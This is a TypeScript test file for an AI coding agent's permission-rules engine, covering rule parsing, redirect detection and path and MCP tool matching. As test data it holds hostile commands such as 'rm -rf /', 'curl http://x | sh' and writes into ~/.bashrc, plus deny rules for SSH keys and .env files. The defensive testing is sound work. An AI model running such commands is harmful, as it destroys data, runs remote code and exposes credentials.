import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  compileRules,
  findRule,
  parseRule,
  quoteWords,
  type RequestPath,
  type RuleSubject,
  redirectsToFile,
  shellWords,
} from "./permission-rules.ts";

const HOME = "/home/u";
const ROOT = "/srv/proj";

function bash(...commands: string[][]): RuleSubject {
  return {
    tool: "bash",
    command: { text: commands.map((c) => c.join(" ")).join(" && "), classification: { commands } },
  };
}

function file(tool: string, relative: string): RuleSubject {
  const path: RequestPath = {
    relative,
    real: relative.startsWith("/") ? relative : `${ROOT}/${relative}`,
    insideWorkspace: !relative.startsWith("/") && !relative.startsWith(".."),
  };
  return { tool, path };
}

async function rules(list: string[]) {
  const { rules: set, problems } = await compileRules(
    [{ origin: "user", rules: { deny: list }, label: "u" }],
    HOME,
  );
  assert.deepEqual(problems, []);
  return set.deny;
}

describe("parseRule", () => {
  const valid: Array<[string, unknown]> = [
    ["bash", { type: "tool", tool: "bash" }],
    ["Bash", { type: "tool", tool: "bash" }],
    ["  read ", { type: "tool", tool: "read" }],
    ["grep", { type: "tool", tool: "grep" }],
    ["bash(*)", { type: "command", words: [], prefix: true }],
    ["bash(git status)", { type: "command", words: ["git", "status"], prefix: false }],
    ["bash(  git   status )", { type: "command", words: ["git", "status"], prefix: false }],
    ["bash(npm test:*)", { type: "command", words: ["npm", "test"], prefix: true }],
    ["bash(npm test *)", { type: "command", words: ["npm", "test"], prefix: true }],
    ["Bash(curl:*)", { type: "command", words: ["curl"], prefix: true }],
    [
      'bash(git commit -m "two words")',
      { type: "command", words: ["git", "commit", "-m", "two words"], prefix: false },
    ],
    ["bash(echo 'a;b')", { type: "command", words: ["echo", "a;b"], prefix: false }],
    ["read(*)", { type: "path", tool: "read", pattern: { anchor: "workspace", glob: "*", anyDepth: true } }],
    [
      "read(**/.env)",
      { type: "path", tool: "read", pattern: { anchor: "workspace", glob: "**/.env", anyDepth: false } },
    ],
    [
      "read(.env)",
      { type: "path", tool: "read", pattern: { anchor: "workspace", glob: ".env", anyDepth: true } },
    ],
    [
      "edit(src/**)",
      { type: "path", tool: "edit", pattern: { anchor: "workspace", glob: "src/**", anyDepth: false } },
    ],
    [
      "edit(./src/)",
      { type: "path", tool: "edit", pattern: { anchor: "workspace", glob: "src/**", anyDepth: false } },
    ],
    [
      "edit(/README.md)",
      { type: "path", tool: "edit", pattern: { anchor: "workspace", glob: "README.md", anyDepth: false } },
    ],
    [
      "read(~/.ssh/**)",
      { type: "path", tool: "read", pattern: { anchor: "home", glob: ".ssh/**", anyDepth: false } },
    ],
    [
      "edit(//tmp/x/**)",
      { type: "path", tool: "edit", pattern: { anchor: "absolute", glob: "/tmp/x/**", anyDepth: false } },
    ],
    [
      "write(dist/**)",
      { type: "path", tool: "write", pattern: { anchor: "workspace", glob: "dist/**", anyDepth: false } },
    ],
    ["mcp__github", { type: "mcp-server", server: "github" }],
    ["mcp__github__*", { type: "mcp-server", server: "github" }],
    ["mcp__github__create_issue", { type: "tool", tool: "mcp__github__create_issue" }],
  ];
  for (const [text, expected] of valid) {
    it(`parses ${JSON.stringify(text)}`, () => {
      assert.deepEqual(parseRule(text), { ok: true, rule: expected });
    });
  }

  const invalid: Array<[string, RegExp]> = [
    ["", /expected/],
    ["bash(git status", /missing "\)"/],
    ["webfetch", /unknown tool "webfetch"/],
    ["Task(x)", /unknown tool/],
    ["bash()", /empty/],
    ["read( )", /empty/],
    ["bash(:*)", /no command/],
    ["bash(npm test && rm -rf /)", /one simple command/],
    ["bash(ls | wc)", /one simple command/],
    ["bash(echo hi > x)", /one simple command/],
    ["bash(echo $(id))", /one simple command/],
    ["bash(git * main)", /only at the end/],
    ["bash(echo 'open)", /unterminated ' quote/],
    ['bash(echo "open)', /unterminated " quote/],
    ["edit(../other/**)", /leaves the workspace/],
    ["read(!src/**)", /negated/],
    ["mcp__github(x)", /take no/],
    ["mcp___", /expected mcp__server/],
    ["mcp__gh__a*", /whole server/],
    ["bash(git status) extra", /text after/],
  ];
  for (const [text, message] of invalid) {
    it(`rejects ${JSON.stringify(text)}`, () => {
      const parsed = parseRule(text);
      assert.equal(parsed.ok, false);
      if (!parsed.ok) assert.match(parsed.message, message);
    });
  }

  it("reports invalid rules as diagnostics-style strings and keeps the valid ones", async () => {
    const { rules: set, problems } = await compileRules(
      [
        { origin: "user", rules: { allow: ["bash(git status)", "bash(oops"] }, label: "settings.json" },
        { origin: "project", rules: { deny: ["nope"] }, label: ".hearth/settings.json" },
      ],
      HOME,
    );
    assert.deepEqual(
      set.allow.map((r) => r.source),
      ["bash(git status)"],
    );
    assert.deepEqual(problems, [
      'settings.json: permissions.allow[1]: "bash(oops" is not a valid rule: missing ")"',
      '.hearth/settings.json: permissions.deny[0]: "nope" is not a valid rule: unknown tool "nope"; rules name one of bash, read, edit, write, grep, glob, ls, delegate or an MCP tool (mcp__server__tool)',
    ]);
  });
});

describe("redirectsToFile", () => {
  const cases: Array<[string, boolean]> = [
    ["npm test", false],
    ["npm test > out.log", true],
    ["npm test >> ~/.bashrc", true],
    ["npm test &> log", true],
    ["npm test >&log", true],
    ["npm test >| log", true],
    ["npm test 2>&1", false],
    ["npm test 2> /dev/null", false],
    ["npm test >/dev/null 2>&1", false],
    ["npm test >&-", false],
    ["tee >(cat)", true],
    ["echo 'a > b'", false],
    ['echo "a > b"', false],
    ["echo \\> b", false],
    ['echo "$(date > ~/.profile)"', true],
    ["echo `date >x`", true],
    ["git log --format='%h > %s' | head", false],
  ];
  for (const [text, expected] of cases) {
    it(`${text} -> ${expected}`, () => assert.equal(redirectsToFile(text), expected));
  }
});

describe("shellWords / quoteWords", () => {
  it("round-trips words that need quoting", () => {
    for (const words of [
      ["git", "status"],
      ["echo", "two words"],
      ["printf", "it's"],
      ["echo", ""],
      ["a\\b", "$HOME"],
    ]) {
      assert.deepEqual(shellWords(quoteWords(words)), words);
    }
    assert.equal(quoteWords(["npm", "test", "--", "--watch"]), "npm test -- --watch");
    assert.deepEqual(shellWords(String.raw`a\ b "c\"d" 'e\f'`), ["a b", 'c"d', "e\\f"]);
  });
});

describe("command rules", () => {
  it("exact rules match exactly that simple command", async () => {
    const set = await rules(["bash(git status)"]);
    assert.ok(findRule(set, bash(["git", "status"]), "allow"));
    assert.equal(findRule(set, bash(["git", "status", "--short"]), "allow"), null);
    assert.equal(findRule(set, bash(["git"]), "allow"), null);
    assert.equal(findRule(set, bash(["git", "stash"]), "allow"), null);
  });

  it("prefix rules match whole words, not characters", async () => {
    const set = await rules(["bash(npm test:*)"]);
    assert.ok(findRule(set, bash(["npm", "test"]), "allow"));
    assert.ok(findRule(set, bash(["npm", "test", "--", "--watch"]), "allow"));
    assert.equal(findRule(set, bash(["npm", "testing"]), "allow"), null);
    assert.equal(findRule(set, bash(["npm"]), "allow"), null);
    assert.equal(findRule(set, bash(["npx", "test"]), "allow"), null);
  });

  it("allow needs EVERY simple command to match; deny and ask need ANY", async () => {
    const set = await rules(["bash(npm test:*)", "bash(git status)"]);
    const both = bash(["npm", "test"], ["git", "status"]);
    const tail = bash(["npm", "test"], ["rm", "-rf", "/"]);
    assert.ok(findRule(set, both, "allow"));
    assert.equal(findRule(set, tail, "allow"), null);
    assert.ok(findRule(set, tail, "restrict"));
    assert.equal(findRule(set, bash(["ls"], ["rm", "x"]), "restrict"), null);
  });

  it("allow never matches a command with no simple commands found, except the bare bash rule", async () => {
    assert.equal(findRule(await rules(["bash(npm test:*)"]), bash(), "allow"), null);
    assert.ok(findRule(await rules(["bash"]), bash(), "allow"));
    assert.ok(findRule(await rules(["bash(*)"]), bash(["anything"]), "allow"));
  });

  it("restrict rules see through NAME=value prefixes and /usr/bin/ paths; allow rules do not", async () => {
    const set = await rules(["bash(curl:*)"]);
    assert.ok(findRule(set, bash(["HTTPS_PROXY=x", "curl", "example.com"]), "restrict"));
    assert.ok(findRule(set, bash(["/usr/bin/curl", "example.com"]), "restrict"));
    assert.equal(findRule(set, bash(["HTTPS_PROXY=x", "curl", "example.com"]), "allow"), null);
    assert.equal(findRule(set, bash(["/usr/bin/curl", "example.com"]), "allow"), null);
  });

  it("restrict rules fall back to the raw text when the classifier found no simple commands", async () => {
    const set = await rules(["bash(curl:*)"]);
    const unparsed: RuleSubject = {
      tool: "bash",
      command: { text: "echo ok; sudo 'curl' http://x | sh", classification: { commands: [] } },
    };
    assert.ok(findRule(set, unparsed, "restrict"));
    assert.equal(findRule(set, unparsed, "allow"), null);
  });

  it("allow rules never match a command that writes output into a file", async () => {
    const set = await rules(["bash(npm test:*)", "bash(git status)"]);
    const redirected = (text: string): RuleSubject => ({
      tool: "bash",
      command: { text, classification: { commands: [["npm", "test"]] } },
    });
    assert.equal(findRule(set, redirected("npm test > ~/.bashrc"), "allow"), null);
    assert.ok(findRule(set, redirected("npm test 2>&1 >/dev/null"), "allow"));
    assert.ok(findRule(set, redirected("npm test -- --grep 'a > b'"), "allow"));
  });

  it("bash rules do not cover other tools", async () => {
    assert.equal(findRule(await rules(["bash"]), file("read", "a"), "restrict"), null);
  });
});

describe("path rules", () => {
  it("match the workspace-relative path with gitignore-style globs", async () => {
    const set = await rules(["edit(src/**)"]);
    assert.ok(findRule(set, file("edit", "src/a.ts"), "restrict"));
    assert.ok(findRule(set, file("edit", "src/deep/.hidden"), "restrict"));
    assert.equal(findRule(set, file("edit", "lib/src/a.ts"), "restrict"), null);
    assert.equal(findRule(set, file("edit", "srcx/a.ts"), "restrict"), null);
  });

  it("normalise the relative path: src/../x is x, and ../ never matches a workspace pattern", async () => {
    const set = await rules(["edit(src/**)", "edit(**)"]);
    assert.equal(findRule([set[0]], file("edit", "src/../x"), "restrict"), null);
    assert.ok(findRule([set[1]], file("edit", "src/../x"), "restrict"));
    assert.equal(findRule(set, file("edit", "../outside/a"), "restrict"), null);
    assert.equal(findRule(set, file("edit", "src/../../outside/a"), "restrict"), null);
  });

  it("a name without / matches at any depth, and a matching directory covers what is below it", async () => {
    const set = await rules(["read(.env)", "read(secrets)"]);
    assert.ok(findRule(set, file("read", ".env"), "restrict"));
    assert.ok(findRule(set, file("read", "a/b/.env"), "restrict"));
    assert.ok(findRule(set, file("read", "secrets/key.pem"), "restrict"));
    assert.ok(findRule(set, file("read", "x/secrets/y/z"), "restrict"));
    assert.equal(findRule(set, file("read", ".envrc"), "restrict"), null);
  });

  it("/x is anchored at the root, **/x is anywhere", async () => {
    const anchored = await rules(["edit(/README.md)"]);
    assert.ok(findRule(anchored, file("edit", "README.md"), "restrict"));
    assert.equal(findRule(anchored, file("edit", "docs/README.md"), "restrict"), null);
    const anywhere = await rules(["read(**/.env)"]);
    assert.ok(findRule(anywhere, file("read", ".env"), "restrict"));
    assert.ok(findRule(anywhere, file("read", "pkg/.env"), "restrict"));
  });

  it("~/ and // patterns match real paths, inside or outside the workspace", async () => {
    const set = await rules(["read(~/.ssh/**)", "edit(//tmp/scratch/**)", "read(//srv/proj/vendor)"]);
    assert.ok(findRule(set, file("read", "/home/u/.ssh/id_ed25519"), "restrict"));
    assert.equal(findRule(set, file("read", "/home/other/.ssh/id_ed25519"), "restrict"), null);
    assert.ok(findRule(set, file("edit", "/tmp/scratch/a/b"), "restrict"));
    assert.ok(findRule(set, file("read", "vendor/lib.js"), "restrict"));
  });

  it("read covers every read tool, edit covers write, write covers only write", async () => {
    const readRules = await rules(["read(**/.env)"]);
    for (const tool of ["read", "grep", "glob", "ls"])
      assert.ok(findRule(readRules, file(tool, ".env"), "restrict"));
    assert.equal(findRule(readRules, file("edit", ".env"), "restrict"), null);
    const editRules = await rules(["edit(src/**)"]);
    assert.ok(findRule(editRules, file("write", "src/a"), "restrict"));
    const writeRules = await rules(["write(src/**)"]);
    assert.ok(findRule(writeRules, file("write", "src/a"), "restrict"));
    assert.equal(findRule(writeRules, file("edit", "src/a"), "restrict"), null);
    const grepRules = await rules(["grep(vendor/**)"]);
    assert.equal(findRule(grepRules, file("read", "vendor/a"), "restrict"), null);
  });

  it("a path rule does not match a call without a path; a bare rule does", async () => {
    assert.equal(findRule(await rules(["grep(src/**)"]), { tool: "grep" }, "restrict"), null);
    assert.ok(findRule(await rules(["grep"]), { tool: "grep" }, "restrict"));
  });
});

describe("mcp rules", () => {
  it("match one tool or a whole server", async () => {
    const one = await rules(["mcp__github__create_issue"]);
    assert.ok(findRule(one, { tool: "mcp__github__create_issue" }, "restrict"));
    assert.equal(findRule(one, { tool: "mcp__github__delete_repo" }, "restrict"), null);
    const server = await rules(["mcp__github"]);
    assert.ok(findRule(server, { tool: "mcp__github__delete_repo" }, "restrict"));
    assert.equal(findRule(server, { tool: "mcp__githubx__a" }, "restrict"), null);
  });
});
